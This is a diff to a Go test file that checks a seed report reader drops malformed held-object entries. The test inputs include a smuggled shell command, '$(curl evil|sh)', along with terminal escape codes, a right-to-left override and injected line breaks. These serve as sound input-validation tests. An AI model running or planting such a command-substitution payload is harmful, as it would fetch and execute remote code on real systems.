@@ -1,6 +1,7 @@
 package seedpublication
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
@@ -26,7 +27,7 @@ func TestReport(t *testing.T) {
 		}
 		return differs
 	}
-	small := Report{Digest: "abc", Converging: []string{"Seed one"}, Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Reason: "because", Approval: "1a"}}}
+	small := Report{Digest: strings.Repeat("ab", 32), Converging: []string{"Seed one"}, Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Reason: "because", Approval: "0123456789ab-2"}}}
 	assert.True(t, write(small))
 	assert.False(t, write(small))
 	assert.Equal(t, small, *ReadReport(seed))
@@ -49,4 +50,46 @@ func TestReport(t *testing.T) {
 	seed.SetAnnotations(map[string]string{AnnotationReport: "{"})
 	assert.Nil(t, ReadReport(seed), "what cannot be read is none")
 	assert.True(t, write(small))
+}
+
+// TestReportOfAnotherForm: what no gardenlet writes is left out when it is read, and counted; what one reports is made to be of the form.
+func TestReportOfAnotherForm(t *testing.T) {
+	good := Held{Owner: "Shoot garden-a/b", Cluster: "one", Object: "ClusterRole system:node", Reason: "because of „it“", Approval: "0123456789ab", Together: "ba9876543210-12"}
+	for name, change := range map[string]func(*Held){
+		"owner":                   func(h *Held) { h.Owner = "nobody" },
+		"cluster":                 func(h *Held) { h.Cluster = "" },
+		"a line break":            func(h *Held) { h.Object = "ConfigMap a/b\nHeld: c" },
+		"a long one":              func(h *Held) { h.Object = "ConfigMap " + strings.Repeat("<", 200_000) },
+		"a long name":             func(h *Held) { h.Object = "ConfigMap a/" + strings.Repeat("b", 254) },
+		"a kind that is none":     func(h *Held) { h.Object = "$(x) a/b" },
+		"two names":               func(h *Held) { h.Object = "ConfigMap a/b/c" },
+		"a command as its id":     func(h *Held) { h.Approval = "$(curl evil|sh)" },
+		"an id of a seed":         func(h *Held) { h.Approval = "one/0123456789ab" },
+		"more ids":                func(h *Held) { h.Together = "0123456789ab 0123456789ac" },
+		"a reason with an escape": func(h *Held) { h.Reason = "why\x1b[2J" },
+		"a reason of two lines":   func(h *Held) { h.Reason = "why\nHeld" },
+		"a reason turned around":  func(h *Held) { h.Reason = "why\u202e" },
+	} {
+		t.Run(name, func(t *testing.T) {
+			bad := good
+			change(&bad)
+			text, err := json.Marshal(Report{Converging: []string{"Seed one", "Seed \x1b"}, ConvergingMore: -1, Held: []Held{bad, good}})
+			require.NoError(t, err)
+			seed := &unstructured.Unstructured{Object: map[string]any{}}
+			seed.SetAnnotations(map[string]string{AnnotationReport: string(text)})
+			assert.Equal(t, &Report{Converging: []string{"Seed one"}, Held: []Held{good}, Dropped: 3}, ReadReport(seed))
+		})
+	}
+	seed := &unstructured.Unstructured{Object: map[string]any{}}
+	said := good
+	said.Reason = "it says:\n\tno"
+	patch, _, err := NoteReport(seed, Report{Held: []Held{said}})
+	require.NoError(t, err)
+	text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
+	require.NoError(t, err)
+	seed.SetAnnotations(map[string]string{AnnotationReport: text})
+	assert.Equal(t, "it says:  no", ReadReport(seed).Held[0].Reason)
+	_, differs, err := NoteReport(seed, Report{Held: []Held{said}})
+	require.NoError(t, err)
+	assert.False(t, differs)
 }
